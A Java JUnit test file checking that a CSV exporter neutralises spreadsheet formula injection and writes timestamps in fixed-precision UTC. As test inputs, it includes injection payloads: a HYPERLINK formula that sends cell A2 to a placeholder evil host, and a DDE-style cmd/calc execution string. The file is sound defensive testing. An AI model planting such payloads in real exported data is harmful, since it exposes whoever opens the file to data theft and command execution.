package io.sqspii.inspector.data;

import static org.assertj.core.api.Assertions.assertThat;

import io.sqspii.inspector.model.Filter;
import io.sqspii.inspector.model.Sort;
import io.sqspii.inspector.model.TableSpec;
import io.sqspii.inspector.testing.TestDb;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.PreparedStatement;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** CSV cells a spreadsheet would run as formulas are neutralised; timestamps have one fixed precision. */
class CsvExportTest {

    @Test
    void formulaPrefixesAreNeutralisedWithAQuote() {
        assertThat(CsvExport.field("=HYPERLINK(\"http://evil\",\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\"");
        assertThat(CsvExport.field("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(CsvExport.field("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvExport.field("@SUM(A1:A2)")).isEqualTo("'@SUM(A1:A2)");
        // a tab or carriage return both starts a formula and ends a cell for some importer
        assertThat(CsvExport.field("\t=1")).isEqualTo("\"'\t'=1\"");
        assertThat(CsvExport.field("\r=1")).isEqualTo("\"'\r'=1\"");
        // after any delimiter-like character too, past spaces and quotes, and the field is quoted
        assertThat(CsvExport.field("x;=1+1")).isEqualTo("\"x;'=1+1\"");
        assertThat(CsvExport.field("x; \"@A1")).isEqualTo("\"x; \"\"'@A1\"");
        assertThat(CsvExport.field("a,-1\n+2")).isEqualTo("\"a,'-1\n'+2\"");
        assertThat(CsvExport.field("de;DE")).isEqualTo("\"de;DE\"");
        // a formula character elsewhere counts for nothing; ordinary values are untouched
        assertThat(CsvExport.field("a=b")).isEqualTo("a=b");
        assertThat(CsvExport.field("2.3.0")).isEqualTo("2.3.0");
        assertThat(CsvExport.field("AQp3x-_k")).isEqualTo("AQp3x-_k");
        assertThat(CsvExport.field("")).isEmpty();
        assertThat(CsvExport.field(null)).isEmpty();
    }

    @Test
    void timestampsHaveAFixedPrecisionInUtcSoTheySortAsText() {
        OffsetDateTime whole = OffsetDateTime.of(2026, 11, 27, 10, 15, 53, 0, ZoneOffset.UTC);
        OffsetDateTime millis = whole.plusNanos(2_000_000);
        OffsetDateTime otherZone = OffsetDateTime.of(2026, 11, 27, 12, 15, 53, 123_456_000, ZoneOffset.ofHours(2));
        assertThat(CsvExport.field(whole)).isEqualTo("2026-11-27T10:15:53.000000Z");
        assertThat(CsvExport.field(millis)).isEqualTo("2026-11-27T10:15:53.002000Z");
        assertThat(CsvExport.field(otherZone)).isEqualTo("2026-11-27T10:15:53.123456Z");
        List<String> asText = Arrays.asList(CsvExport.field(millis), CsvExport.field(whole));
        asText.sort(null);
        assertThat(asText).containsExactly(CsvExport.field(whole), CsvExport.field(millis));
    }

    @Test
    void aLineQuotesWhatRfc4180Requires() throws IOException {
        StringWriter w = new StringWriter();
        CsvExport.writeLine(w, Arrays.asList("a,b", "say \"hi\"", null, "=1+1", 42L));
        assertThat(w).hasToString("\"a,b\",\"say \"\"hi\"\"\",,'=1+1,42\r\n");
    }

    /**
     * Review finding U8: a spreadsheet in a ';'-delimiter locale (de-DE Excel opened by double-click)
     * splits {@code x;=HYPERLINK(...)} into a second cell that starts with '=', whether or not the field is
     * quoted (a quote in the middle of a ';'-field is not a quote to it). A producer controls device_type
     * and locale, a reader controls the audit reason the auditor exports.
     */
    @Test
    void aSemicolonLocaleCannotSplitAFormulaOutOfADeviceTypeLocaleOrAuditReason(@TempDir Path dir) throws Exception {
        String hyperlink = "x;=HYPERLINK(\"http://evil.example/?\"&A2;\"Details\")";
        String bare = "de;=1+1";
        String tabbed = "a\t=2+2";
        try (TestDb db = TestDb.create()) {
            db.insertLogin("m-1", "u-1", hyperlink, "ipct", "devct", bare, tabbed, OffsetDateTime.now(ZoneOffset.UTC));
            try (PreparedStatement ps = db.admin()
                    .prepareStatement("INSERT INTO pii_access_log (analyst, at, table_name, row_key,"
                            + " column_name, reason) VALUES ('reader', now(), 'user_logins', 'm-1', 'masked_ip', ?)")) {
                ps.setString(1, "ticket 7;@SUM(1+1);-3+3|" + hyperlink);
                ps.executeUpdate();
            }
            try (Session admin = Session.open(db.settings(TestDb.PG_USER, TestDb.PG_PASSWORD))) {
                for (TableSpec table : List.of(TestSpecs.table(db.admin(), "user_logins"), TableSpec.AUDIT)) {
                    Path csv = dir.resolve(table.name() + ".csv");
                    assertThat(CsvExport.export(
                                    admin.repository(),
                                    table,
                                    Filter.NONE,
                                    Sort.asc(table.key().name()),
                                    csv,
                                    () -> false))
                            .isEqualTo(1);
                    String data =
                            Files.readAllLines(csv, StandardCharsets.UTF_8).get(1);
                    // every cell a ';', ',' or tab split can produce, quotes or not, is text to the spreadsheet
                    for (String cell : data.split("[;,\t]", -1)) {
                        assertThat(cell.replaceFirst("^[\" ]+", ""))
                                .as(table.name() + " cell")
                                .doesNotStartWith("=")
                                .doesNotStartWith("+")
                                .doesNotStartWith("-")
                                .doesNotStartWith("@");
                    }
                    // and a spreadsheet that splits on ',' and honours quotes sees one cell with the whole value
                    assertThat(data)
                            .contains(
                                    table.name().equals("user_logins")
                                            ? "\"x;'=HYPERLINK("
                                            : "\"ticket 7;'@SUM(1+1);'-3+3|x;'=HYPERLINK(");
                }
            }
        }
    }
}
